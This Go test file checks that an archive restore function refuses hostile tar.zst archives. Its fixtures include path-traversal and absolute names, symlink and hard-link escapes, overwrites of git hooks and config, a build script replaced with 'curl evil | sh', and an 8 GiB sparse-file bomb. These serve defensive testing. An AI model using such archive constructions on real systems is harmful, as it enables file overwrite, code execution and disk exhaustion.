package archive

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// entry is one member of a hand-made archive.
type entry struct {
	typ  byte
	name string
	link string // symlink or hard link target
	data string
	mode int64 // 0: 0644 for files, 0755 for folders
}

func file(name, data string) entry   { return entry{typ: tar.TypeReg, name: name, data: data} }
func dir(name string) entry          { return entry{typ: tar.TypeDir, name: name} }
func symlink(name, to string) entry  { return entry{typ: tar.TypeSymlink, name: name, link: to} }
func hardlink(name, to string) entry { return entry{typ: tar.TypeLink, name: name, link: to} }
func fifo(name string) entry         { return entry{typ: tar.TypeFifo, name: name} }

// buildArchive makes a .tar.zst holding entries, in order.
func buildArchive(t testing.TB, entries ...entry) []byte {
	t.Helper()
	return compress(t, buildTar(t, entries...))
}

// buildTar makes a tar stream holding entries, in order.
func buildTar(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var tarStream bytes.Buffer
	tw := tar.NewWriter(&tarStream)
	for _, e := range entries {
		hdr := &tar.Header{Typeflag: e.typ, Name: e.name, Linkname: e.link, Mode: e.mode,
			Size: int64(len(e.data)), ModTime: time.Unix(1e9, 0)}
		switch {
		case hdr.Mode != 0:
		case e.typ == tar.TypeDir:
			hdr.Mode = 0o755
		default:
			hdr.Mode = 0o644
		}
		must(t, tw.WriteHeader(hdr))
		_, err := tw.Write([]byte(e.data))
		must(t, err)
	}
	must(t, tw.Close())
	return tarStream.Bytes()
}

// compress makes a .tar.zst of a tar stream, as Write does.
func compress(t testing.TB, tarStream []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	fw, err := newFrameWriter(&out, WriteOptions{})
	must(t, err)
	_, err = fw.Write(tarStream)
	must(t, err)
	must(t, fw.Close())
	return out.Bytes()
}

// rawHeader is a USTAR header block for what archive/tar will not write:
// GNU sparse files.
func rawHeader(name string, typ byte, size int64) []byte {
	b := make([]byte, 512)
	copy(b, name)
	copy(b[100:], "0000644\x00")
	copy(b[108:], "0000000\x00")
	copy(b[116:], "0000000\x00")
	copy(b[124:], fmt.Sprintf("%011o\x00", size))
	copy(b[136:], fmt.Sprintf("%011o\x00", int64(1e9)))
	b[156] = typ
	copy(b[257:], "ustar\x0000")
	if typ == tar.TypeGNUSparse {
		copy(b[257:], "ustar  \x00")                  // the old GNU format
		copy(b[483:], fmt.Sprintf("%011o\x00", size)) // real size; no data, no holes listed
		copy(b[124:], fmt.Sprintf("%011o\x00", 0))
	}
	copy(b[148:], "        ")
	sum := 0
	for _, c := range b {
		sum += int(c)
	}
	copy(b[148:], fmt.Sprintf("%06o\x00 ", sum))
	return b
}

// paxSparse is a tar stream holding a PAX (format 1.0) sparse file of
// size bytes, all hole.
func paxSparse(name string, size int64) []byte {
	var recs strings.Builder
	for _, kv := range [][2]string{{"GNU.sparse.major", "1"}, {"GNU.sparse.minor", "0"},
		{"GNU.sparse.name", name}, {"GNU.sparse.realsize", fmt.Sprint(size)}} {
		rec := " " + kv[0] + "=" + kv[1] + "\n"
		n := len(rec) + 1
		for len(fmt.Sprint(n))+len(rec) != n {
			n++
		}
		fmt.Fprintf(&recs, "%d%s", n, rec)
	}
	var b bytes.Buffer
	b.Write(rawHeader("PaxHeaders/x", tar.TypeXHeader, int64(recs.Len())))
	b.WriteString(recs.String())
	b.Write(make([]byte, 512-recs.Len()%512))
	// The data holds the sparse map: no segments, padded to a block.
	b.Write(rawHeader("GNUSparseFile/x", tar.TypeReg, 512))
	b.WriteString("0\n")
	b.Write(make([]byte, 510))
	b.Write(make([]byte, 1024))
	return b.Bytes()
}

// testOutputs are the outputs the table tests restore: a folder and a file
// in a folder the root already has.
var testOutputs = []string{"out", "dist/app.bin"}

// makeRoot makes a cache root as a task would find it: tracked files, a
// .git folder, old outputs and a folder next to them; and a folder outside.
func makeRoot(t testing.TB) (root, outside string) {
	t.Helper()
	base := t.TempDir()
	root = filepath.Join(base, "root")
	outside = filepath.Join(base, "outside")
	for name, data := range map[string]string{
		"input.txt":              "tracked\n",
		"build.sh":               "echo build\n",
		".git/config":            "[core]\n",
		".git/hooks/pre-commit":  "#!/bin/sh\n",
		"out/old.txt":            "old output\n",
		"out/sub/old.bin":        "old binary",
		"dist/app.bin":           "old app",
		"dist/not-an-output.txt": "keep me\n",
	} {
		p := filepath.Join(root, name)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(data), 0o644))
	}
	must(t, os.Mkdir(outside, 0o755))
	must(t, os.WriteFile(filepath.Join(base, "secret"), []byte("s"), 0o600))
	return root, outside
}

// restoreBytes restores an archive held in memory.
func restoreBytes(t testing.TB, data []byte, root string, outputs []string, opt RestoreOptions) (Stats, error) {
	t.Helper()
	return Restore(context.Background(), bytes.NewReader(data), root, outputs, opt)
}

// refused checks what a refused restore leaves: the root as before, nothing
// outside, no staging folder.
func refused(t *testing.T, root, outside string, before map[string]string) {
	t.Helper()
	sameSnapshot(t, before, snapshot(t, root))
	if left, _ := os.ReadDir(outside); len(left) != 0 {
		t.Errorf("written outside the root: %v", left)
	}
	if left, _ := os.ReadDir(filepath.Dir(root)); len(left) != 3 {
		t.Errorf("written next to the root: %v", left)
	}
}

// unsafeCase is an archive Restore must refuse with an *UnsafeEntryError
// when restoring testOutputs into a root made by makeRoot.
type unsafeCase struct {
	name    string
	setup   func(t *testing.T, root string) // state before the restore
	entries func(outside string) []entry
}

func unsafeCases() []unsafeCase {
	return []unsafeCase{
		{name: "tracked file", entries: func(string) []entry {
			return []entry{file("input.txt", "pwned")}
		}},
		{name: "tracked file with dot slash", entries: func(string) []entry {
			return []entry{dir("out/"), file("out/a", "x"), file("./build.sh", "curl evil | sh")}
		}},
		{name: "git hook", entries: func(string) []entry {
			return []entry{file(".git/hooks/post-checkout", "#!/bin/sh\nevil\n")}
		}},
		{name: "git config", entries: func(string) []entry {
			return []entry{file(".git/config", "[core]\n\tfsmonitor = evil\n")}
		}},
		{name: "git inside an output", entries: func(string) []entry {
			return []entry{dir("out/"), dir("out/.git/"), file("out/.git/config", "x")}
		}},
		{name: "git in another case", entries: func(string) []entry {
			return []entry{dir("out/.GIT/")}
		}},
		{name: "git as a link", entries: func(string) []entry {
			return []entry{symlink(".git", "out")}
		}},
		{name: "git as a link inside an output", entries: func(string) []entry {
			return []entry{symlink("out/.git", "sub")}
		}},
		{name: "link into git", entries: func(string) []entry {
			return []entry{symlink("out/l", "../.git/config")}
		}},
		{name: "link to a tracked file", entries: func(string) []entry {
			return []entry{dir("out/"), symlink("out/input", "../input.txt")}
		}},
		{name: "link to the folder above an output", entries: func(string) []entry {
			return []entry{symlink("dist/app.bin", ".")}
		}},
		{name: "folder above an output as a file", entries: func(string) []entry {
			return []entry{file("dist", "x")}
		}},
		{name: "folder above an output as a link", entries: func(string) []entry {
			return []entry{symlink("dist", "out")}
		}},
		{name: "next to an output", entries: func(string) []entry {
			return []entry{file("dist/other.bin", "x")}
		}},
		{name: "root as a file", entries: func(string) []entry {
			return []entry{file(".", "x")}
		}},
		{name: "staging folder name", entries: func(string) []entry {
			return []entry{file(".taskrunner-restore-1-x/new/out/a", "x")}
		}},
		{name: "absolute name", entries: func(o string) []entry {
			return []entry{file(filepath.Join(o, "evil"), "x")}
		}},
		{name: "dot-dot name", entries: func(string) []entry {
			return []entry{file("../outside/evil", "x")}
		}},
		{name: "dot-dot inside name", entries: func(string) []entry {
			return []entry{dir("out/"), file("out/../../outside/evil", "x")}
		}},
		{name: "dot-dot folder", entries: func(string) []entry {
			return []entry{dir("../outside/sub/")}
		}},
		{name: "symlink to absolute path then through it", entries: func(o string) []entry {
			return []entry{symlink("out", o), file("out/evil", "x")}
		}},
		{name: "symlink climbing out", entries: func(string) []entry {
			return []entry{symlink("out", "../outside"), file("out/evil", "x")}
		}},
		{name: "deep symlink climbing out", entries: func(string) []entry {
			return []entry{dir("out/"), dir("out/b/"), symlink("out/b/link", "../../../outside/evil")}
		}},
		{name: "symlink to symlink climbing out", entries: func(string) []entry {
			return []entry{symlink("out/a", "b"), symlink("out/b", "../../outside"), file("out/a/evil", "x")}
		}},
		{name: "dot-dot after a name made to climb out later", entries: func(string) []entry {
			// Lexically "d/d/.." is "d", but once d -> . it is "..".
			return []entry{symlink("out/e", "d/d/.."), symlink("out/d", "."), file("out/e/outside/evil", "x")}
		}},
		{name: "file through in-archive symlink", entries: func(string) []entry {
			return []entry{dir("out/sub/"), symlink("out/link", "sub"), file("out/link/f", "x")}
		}},
		{name: "folder replaced by a symlink, then written through", entries: func(string) []entry {
			return []entry{dir("out/d/"), file("out/d/a", "x"), dir("out/sub/"), symlink("out/d", "sub"), file("out/d/b", "x")}
		}},
		{name: "hard link climbing out", entries: func(string) []entry {
			return []entry{hardlink("out/h", "../secret")}
		}},
		{name: "hard link to absolute path", entries: func(o string) []entry {
			return []entry{hardlink("out/h", filepath.Join(filepath.Dir(o), "secret"))}
		}},
		{name: "hard link to a tracked file", entries: func(string) []entry {
			return []entry{hardlink("out/h", "input.txt")}
		}},
		{name: "hard link into git", entries: func(string) []entry {
			return []entry{hardlink("out/h", ".git/config")}
		}},
		{name: "hard link to an old output", entries: func(string) []entry {
			return []entry{dir("out/"), hardlink("out/h", "dist/app.bin")}
		}},
		{name: "hard link to a symlink", entries: func(string) []entry {
			return []entry{symlink("out/l", "x"), hardlink("out/h", "out/l")}
		}},
		{name: "hard link through a symlink", entries: func(string) []entry {
			return []entry{file("out/sub/f", "x"), symlink("out/link", "sub"), hardlink("out/h", "out/link/f")}
		}},
		{name: "hard link to a folder", entries: func(string) []entry {
			return []entry{dir("out/sub/"), hardlink("out/h", "out/sub")}
		}},
		{name: "good entries first, then a bad one", entries: func(string) []entry {
			return []entry{dir("out/"), file("out/new.txt", "new"), file("dist/app.bin", "new app"),
				file("../escape", "x")}
		}},
		{name: "good entries, then a file of another output through a link", setup: func(t *testing.T, root string) {
			must(t, os.Symlink("out", filepath.Join(root, "link")))
		}, entries: func(string) []entry {
			return []entry{file("out/new.txt", "new"), file("link/new.txt", "x")}
		}},
	}
}

func TestRestoreRefusesUnsafeEntries(t *testing.T) {
	for _, tc := range unsafeCases() {
		t.Run(tc.name, func(t *testing.T) {
			root, outside := makeRoot(t)
			if tc.setup != nil {
				tc.setup(t, root)
			}
			before := snapshot(t, root)
			data := buildArchive(t, tc.entries(outside)...)
			_, err := restoreBytes(t, data, root, testOutputs, RestoreOptions{})
			var unsafe *UnsafeEntryError
			if !errors.As(err, &unsafe) {
				t.Errorf("err = %v, want an *UnsafeEntryError", err)
			} else {
				t.Logf("refused: %v", err)
			}
			refused(t, root, outside, before)
		})
	}
}

// TestRestoreRefusesSparseFiles: a sparse file would be written out whole,
// holes as zeros: 8 GiB from a few hundred bytes of archive.
func TestRestoreRefusesSparseFiles(t *testing.T) {
	const size = 8 << 30
	cases := map[string][]byte{
		"GNU":  append(rawHeader("out/sparse", tar.TypeGNUSparse, size), make([]byte, 1024)...),
		"PAX":  paxSparse("out/sparse", size),
		"next": append(rawHeader("out/plain", tar.TypeReg, 0), paxSparse("out/sparse", size)...),
	}
	for name, tarStream := range cases {
		t.Run(name, func(t *testing.T) {
			root, outside := makeRoot(t)
			before := snapshot(t, root)
			data := compress(t, tarStream)
			t.Logf("%d bytes of archive", len(data))
			_, err := restoreBytes(t, data, root, testOutputs, RestoreOptions{})
			var unsafe *UnsafeEntryError
			if !errors.As(err, &unsafe) || !strings.Contains(err.Error(), "sparse") {
				t.Errorf("err = %v, want an *UnsafeEntryError for a sparse file", err)
			}
			refused(t, root, outside, before)
		})
	}
}

// TestRestoreAcceptsSafeLinks guards against refusing what real outputs
// hold: library version chains, links up to a sibling or to another
// output, links not yet satisfied, hard links, folders above outputs.
func TestRestoreAcceptsSafeLinks(t *testing.T) {
	entries := []entry{
		dir("./"),
		dir("lib/"),
		symlink("lib/libfoo.so", "libfoo.so.1"),
		symlink("lib/libfoo.so.1", "libfoo.so.1.2"),
		file("lib/libfoo.so.1.2", "elf"),
		dir("node_modules/.bin/"),
		symlink("node_modules/.bin/tool", "../tool/cli.js"),
		file("node_modules/tool/cli.js", "js"),
		symlink("a/b/c/up", "../../../lib/./libfoo.so"),
		symlink("a/to-dist", "../deep/dist/app"),
		symlink("dangling", "lib/later/file"),
		hardlink("lib/copy", "lib/libfoo.so.1.2"),
		file("./dot/slash", "x"),
		dir("deep/"),
		dir("deep/dist/"),
		file("deep/dist/app", "app"),
		fifo("lib/fifo"),
	}
	outputs := []string{"lib", "node_modules", "a", "dangling", "dot", "deep/dist/app"}
	root := t.TempDir()
	st, err := restoreBytes(t, buildArchive(t, entries...), root, outputs, RestoreOptions{})
	must(t, err)
	if want := (Stats{Files: 11, Dirs: 2, Skipped: 1, Bytes: 9}); st.Compressed == 0 || st.Files != want.Files ||
		st.Dirs != want.Dirs || st.Skipped != want.Skipped || st.Bytes != want.Bytes {
		t.Errorf("stats = %+v, want %+v", st, want)
	}
	got, err := os.ReadFile(filepath.Join(root, "a/b/c/up"))
	if err != nil || string(got) != "elf" {
		t.Errorf("a/b/c/up reads %q, %v; want the library through the chain", got, err)
	}
	if got, _ := os.ReadFile(filepath.Join(root, "a/to-dist")); string(got) != "app" {
		t.Errorf("a/to-dist reads %q", got)
	}
	if got, _ := os.ReadFile(filepath.Join(root, "dot/slash")); string(got) != "x" {
		t.Errorf("dot/slash = %q", got)
	}
	if _, err := os.Lstat(filepath.Join(root, "lib/fifo")); err == nil {
		t.Error("a named pipe was restored")
	}
	one, _ := os.Stat(filepath.Join(root, "lib/copy"))
	two, _ := os.Stat(filepath.Join(root, "lib/libfoo.so.1.2"))
	if !os.SameFile(one, two) {
		t.Error("lib/copy is not a hard link to lib/libfoo.so.1.2")
	}
}

func TestUnsafeEntryErrorMessage(t *testing.T) {
	data := buildArchive(t, file("../evil", "x"))
	_, err := restoreBytes(t, data, t.TempDir(), []string{"."}, RestoreOptions{})
	if err == nil || !strings.Contains(err.Error(), `"../evil"`) {
		t.Errorf("err = %v, want it to name the entry", err)
	}
}
